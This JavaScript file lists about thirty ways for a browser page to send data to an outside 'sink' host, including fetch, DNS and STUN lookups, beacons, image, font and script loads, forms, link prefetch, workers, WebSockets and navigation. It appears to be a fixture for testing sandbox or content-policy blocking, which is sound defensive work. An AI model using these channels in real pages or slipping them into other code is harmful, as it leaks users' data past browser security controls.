// Every way out that a browser has. `at` is host:port of the sink, `port` its port alone, `name` a name that only the
// sink's name server could know. Evaluates to an object.
({
  fetch: ({ at }) => fetch(`http://${at}/?secret`, { mode: "no-cors" }),
  "fetch by name": ({ port }) => fetch(`http://localhost:${port}/?secret`, { mode: "no-cors" }),
  DNS: ({ name }) => fetch(`http://dns.${name}/?secret`, { mode: "no-cors" }),
  "DNS prefetch": ({ name }) => {
    const link = document.createElement("link");
    link.rel = "dns-prefetch";
    link.href = `//prefetch.${name}`;
    document.head.append(link);
  },
  "DNS of a STUN server": async ({ name }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:stun.${name}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((go) => setTimeout(go, 600));
    peer.close();
  },
  "fetch keepalive": ({ at }) =>
    fetch(`http://${at}/`, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }),
  XMLHttpRequest: ({ at }) =>
    new Promise((go) => {
      const ask = new XMLHttpRequest();
      ask.onloadend = go;
      ask.open("GET", `http://${at}/?secret`);
      ask.send();
    }),
  image: ({ at }) =>
    new Promise((go) => {
      const image = new Image();
      image.onerror = image.onload = go;
      image.src = `http://${at}/?secret`;
    }),
  style: ({ at }) =>
    new Promise((go) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(http://${at}/?secret) }`);
      document.adoptedStyleSheets.push(sheet);
      requestAnimationFrame(go);
    }),
  font: ({ at }) => new FontFace("x", `url(http://${at}/secret.woff2)`).load(),
  script: ({ at }) =>
    new Promise((go) => {
      const script = document.createElement("script");
      script.onerror = script.onload = go;
      script.src = `http://${at}/?secret`;
      document.head.append(script);
    }),
  module: ({ at }) => import(`http://${at}/secret.js`),
  frame: ({ at }) =>
    new Promise((go) => {
      const frame = document.createElement("iframe");
      frame.src = `http://${at}/?secret`;
      document.body.append(frame);
      setTimeout(go, 100);
    }),
  object: ({ at }) =>
    new Promise((go) => {
      const object = document.createElement("object");
      object.data = `http://${at}/?secret`;
      document.body.append(object);
      setTimeout(go, 100);
    }),
  media: ({ at }) =>
    new Promise((go) => {
      const audio = new Audio(`http://${at}/secret.mp3`);
      audio.onerror = go;
      audio.play().catch(go);
    }),
  WebSocket: ({ at }) =>
    new Promise((go) => {
      const socket = new WebSocket(`ws://${at}/secret`);
      socket.onerror = socket.onclose = go;
    }),
  EventSource: ({ at }) =>
    new Promise((go) => {
      const source = new EventSource(`http://${at}/secret`);
      source.onerror = () => {
        source.close();
        go();
      };
    }),
  beacon: ({ at }) => navigator.sendBeacon(`http://${at}/`, "secret"),
  ping: ({ at }) => {
    const link = document.createElement("a");
    link.href = "#";
    link.ping = `http://${at}/`;
    document.body.append(link);
    link.click();
  },
  form: ({ at }) => {
    const form = document.createElement("form");
    form.action = `http://${at}/`;
    form.method = "post";
    document.body.append(form);
    form.submit();
  },
  "form by its button": ({ at }) => {
    const form = document.createElement("form");
    const button = document.createElement("button");
    Object.assign(button, { formAction: `http://${at}/`, formMethod: "post", name: "a", value: "b" });
    form.append(button);
    document.body.append(form);
    form.requestSubmit(button);
  },
  ...Object.fromEntries(
    ["prefetch", "preload", "preconnect", "modulepreload", "icon", "stylesheet"].map((rel) => [
      `link ${rel}`,
      ({ at }) => {
        const link = document.createElement("link");
        link.rel = rel;
        if (rel === "preload") link.as = "script";
        link.href = `http://${at}/?secret`;
        document.head.append(link);
      },
    ]),
  ),
  speculation: ({ at }) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [`https://${at}/?secret`] }] });
    document.head.append(rules);
  },
  "worker that imports": ({ at }) =>
    new Promise((go) => {
      const worker = new Worker(URL.createObjectURL(new Blob([`importScripts("http://${at}/secret.js")`])));
      worker.onerror = go;
      setTimeout(go, 200);
    }),
  "worker of a blob": ({ at }) =>
    new Promise((go) => {
      const worker = new Worker(URL.createObjectURL(new Blob([`fetch("http://${at}/?secret")`])));
      worker.onerror = go;
      setTimeout(go, 200);
    }),
  STUN: async ({ at }) => {
    const account = { username: "secret", credential: "secret" };
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${at}` },
        { urls: `turn:${at}`, ...account },
        { urls: `turn:${at}?transport=tcp`, ...account },
      ],
    });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((go) => setTimeout(go, 600));
    peer.close();
  },
  WebTransport: ({ at }) => new WebTransport(`https://${at}/secret`).ready,
  navigation: ({ at }) => void (location.href = `http://${at}/?secret`),
  "navigation of the top": ({ at }) => void (top.location = `http://${at}/?secret`),
  "a new window": ({ at }) => void window.open(`http://${at}/?secret`),
})
